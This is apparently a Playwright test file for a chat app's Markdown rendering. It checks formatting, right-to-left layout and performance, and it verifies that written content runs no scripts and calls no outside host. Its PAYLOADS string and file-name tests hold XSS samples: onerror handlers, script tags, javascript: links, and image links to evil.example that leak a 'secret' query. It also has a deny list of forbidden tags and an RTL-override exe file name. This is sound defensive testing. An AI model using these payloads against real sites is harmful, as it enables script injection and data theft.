"""What people and models write is shown as Markdown, and can neither run anything nor call anybody."""

from typing import Any

import pytest
from playwright.sync_api import Page, expect

from tests.emulators.raw_provider import Reply
from tests.page.browser import Pages
from tests.page.site import SCRIPTED, Model, Person

JSON = dict[str, Any]
PAYLOADS = """<img src=x onerror="window.ran=1"> <svg onload="window.ran=2"> <script>window.ran=3</script>

<script>window.ran=4</script>

<iframe srcdoc="<script>parent.ran=5</script>"></iframe>

<form action="https://evil.example/"><button>Click</button></form><style>body{display:none}</style>

[one](javascript:window.ran=6) [two](data:text/html,<script>window.ran=7</script>) [three](JaVaScRiPt:window.ran=8)
[four](  java&#10;script:window.ran=9) [five](vbscript:x) [six](//evil.example/x) <javascript:window.ran=10>

![leak](https://evil.example/leak?q=secret) ![data](data:image/svg+xml,<svg/onload=window.ran=11>)

[![inner](https://evil.example/inner.png)](javascript:window.ran=12)

| <b>a</b> | ![cell](https://evil.example/cell.png) |
|---|---|
| <img src=x onerror=window.ran=13> | [x](javascript:window.ran=14) |

```html"><img src=x onerror=window.ran=15>
<script>window.ran=16</script>
```

```constructor
x
```

[ref]: javascript:window.ran=17
[ref] https://evil.example/<img/src=x/onerror=window.ran=18>
"""
FORBIDDEN = "script, iframe, img, object, embed, svg:not(.icon), form:not(.composer), style, link, [onerror], [onload], [style]"
TEXT = """# Title

First with **bold**, *soft*, ~~gone~~, `co & <de>`, a [link](https://example.com/a "Its title") and https://bare.example/.

- one
- two
  1. deep
  2. deeper
- [x] done
- [ ] open

> Quoted

| Left | Right |
|------|------:|
| a \\| b | 1 |

```python
def double(n: int) -> int:
    return n * 2  # twice
```

```nolanguage
plain &lt; text
```

3. third
4. fourth

Tom &amp; Jerry &lt;3 \\*no\\*

---
"""


def shown(pages: Pages, who: Person, model: Model, text: str, **options: Any) -> Page:
    model.says(Reply(text=(text,)))
    posted = who.asks("Show me", model=SCRIPTED)
    page = pages.open(who, f"/conversations/{posted['conversation_id']}", **options)
    expect(page.locator(".post.reply .md")).to_be_visible()
    return page


def ran(page: Page) -> Any:
    return page.evaluate("window.ran ?? null")


def test_every_kind_of_markup_is_shown(mia: Person, pages: Pages, model: Model) -> None:
    page = shown(pages, mia, model, TEXT)
    md = page.locator(".post.reply .md")
    expect(md.locator("h3")).to_have_text("Title")
    for name, words in (("strong", "bold"), ("em", "soft"), ("del", "gone"), ("p > code", "co & <de>")):
        expect(md.locator(name)).to_have_text(words)
    link = md.get_by_role("link", name="link")
    expect(link).to_have_attribute("href", "https://example.com/a")
    expect(link).to_have_attribute("title", "Its title (https://example.com/a)")
    expect(link).to_have_attribute("rel", "noopener noreferrer nofollow")
    expect(link).to_have_attribute("target", "_blank")
    expect(md.get_by_role("link", name="https://bare.example/")).to_be_visible()
    expect(md.locator("ul > li > ol > li")).to_have_text(["deep", "deeper"])
    assert [box.is_checked() for box in md.get_by_role("checkbox").all()] == [True, False]
    expect(md.locator("blockquote")).to_have_text("Quoted")
    expect(md.locator("td")).to_have_text(["a | b", "1"])
    expect(md.locator("td").nth(1)).to_have_css("text-align", "right")
    expect(md.locator("figcaption > span")).to_have_text(["python", "nolanguage"])
    expect(md.locator("pre").nth(0)).to_have_text("def double(n: int) -> int:\n    return n * 2  # twice")
    expect(md.locator(".hljs-keyword")).to_have_text(["def", "return"])
    expect(md.locator(".hljs-comment")).to_have_text("# twice")
    expect(md.locator(".hljs-title.function_")).to_have_text("double")
    expect(md.locator("pre").nth(1)).to_have_text("plain &lt; text")
    expect(md.locator(":scope > ol")).to_have_attribute("start", "3")
    expect(md.get_by_text("Tom & Jerry <3 *no*")).to_be_visible()
    expect(md.locator("hr")).to_have_count(1)


@pytest.mark.parametrize("writer", ["model", "person"])
def test_what_is_written_runs_nothing_and_calls_nobody(mia: Person, pages: Pages, model: Model, writer: str) -> None:
    model.says(Reply(text=(PAYLOADS if writer == "model" else "Fine.",)))
    posted = mia.asks(PAYLOADS if writer == "person" else "Attack", model=SCRIPTED)
    page = pages.open(mia, f"/conversations/{posted['conversation_id']}")
    md = page.locator(".post.reply .md" if writer == "model" else ".post.said .md")
    expect(md.get_by_text("window.ran=16")).to_be_visible()
    assert md.locator(FORBIDDEN).count() == 0
    schemes = md.locator("a").evaluate_all("links => links.map(link => link.protocol)")
    assert set(schemes) == {"https:"}
    expect(md.get_by_text('<img src=x onerror="window.ran=1">')).to_be_visible()  # as the text that it is
    expect(md.get_by_role("link", name="[image: leak]")).to_have_attribute("href", "https://evil.example/leak?q=secret")
    page.wait_for_load_state("networkidle")
    assert ran(page) is None  # `pages` fails for any request to another host


def test_titles_names_and_files_run_nothing(mia: Person, pages: Pages) -> None:
    attack = "<img src=x onerror=window.ran=1>"
    task = mia.task(f"{attack} **x**")
    files = [("files", (f"{attack}.txt", b"x", "text/plain")), ("files", ("\u202egnp.exe", b"x", f"image/png{attack}"))]
    posted = mia.request(
        "POST", "/api/chat", data={"message": attack, "task_id": task["ref"]}, files=files, headers={"Prefer": "respond-async"}
    )
    assert posted.status_code == 202, posted.text
    page = pages.open(mia, f"/tasks/{task['ref']}")
    expect(page.locator(".chat-head h1")).to_have_text(f"{attack} **x**")
    expect(page.locator(".file").first).to_contain_text("onerror=window.ran=1")
    assert page.locator("img").count() == 0
    page.wait_for_load_state("networkidle")
    assert ran(page) is None


def test_what_would_take_for_ever_or_the_stack_is_shown_as_text(mia: Person, pages: Pages, model: Model) -> None:
    deep, marks = "> " * 3000 + "bottom", "*a_" * 3000
    page = shown(pages, mia, model, f"{deep}\n\nafter")
    expect(page.locator(".md .plain")).to_contain_text("bottom")
    page = shown(pages, mia, model, f"{marks}\n\n**after**")
    expect(page.locator(".md strong")).to_have_text("after")
    milliseconds = page.evaluate(
        """async (text) => {
          const { Markdown } = await import('/static/markdown.js'), { h, render } = await import('/static/ui.js');
          let least = Infinity;  // of several: other programs run at the same time
          for (let time = 0; time < 5 && least > 500; time++) {
            const begun = performance.now();
            render(h(Markdown, { text }), document.createElement('div'));
            least = Math.min(least, performance.now() - begun);
          }
          return least;
        }""",
        marks,
    )
    assert milliseconds < 1000  # and not 1.7 s for each 50 ms of a stream, on a machine that does nothing else


def test_languages_written_from_right_to_left_and_without_spaces(mia: Person, pages: Pages, model: Model) -> None:
    text = "مرحبا بالعالم `x = 1`\n\n" + "長い文章が続きます。" * 40 + "\n\n- שלום\n- עולם\n\nEnglish 👩‍👩‍👧 again"
    inside = "\n\n> ציטוט ארוך\n\n- פריט\n\n  ועוד\n\n| שם | n |\n|---|---|\n| x | 1 |"
    page = shown(pages, mia, model, text + inside, phone=True)
    md = page.locator(".post.reply .md")
    for name in ("blockquote", "ul:has(p)", "table"):
        expect(md.locator(name)).to_have_css("direction", "rtl")  # the bar, the bullets and the first column are on the right
    directions = md.locator("> p, > ul:not(:has(p))").evaluate_all("blocks => blocks.map(block => getComputedStyle(block).direction)")
    assert directions == ["rtl", "ltr", "rtl", "ltr"]
    expect(md.locator("p code")).to_have_css("direction", "ltr")
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    box = page.locator(".thread-box")
    assert box.evaluate("box => box.scrollWidth <= box.clientWidth")


def test_wide_things_scroll_by_themselves(mia: Person, pages: Pages, model: Model) -> None:
    wide = "| " + " | ".join(f"column{n}" for n in range(30)) + " |\n|" + "---|" * 30 + "\n"
    page = shown(pages, mia, model, f"{wide}\n```\n{'x' * 500}\n```\n\n{'y' * 500}", phone=True)
    expect(page.locator(".md .table")).to_be_visible()
    assert page.locator(".thread-box").evaluate("box => box.scrollWidth <= box.clientWidth")
    assert page.locator(".md .table").evaluate("table => table.scrollWidth > table.clientWidth")
    assert page.locator(".md pre").evaluate("code => code.scrollWidth > code.clientWidth")
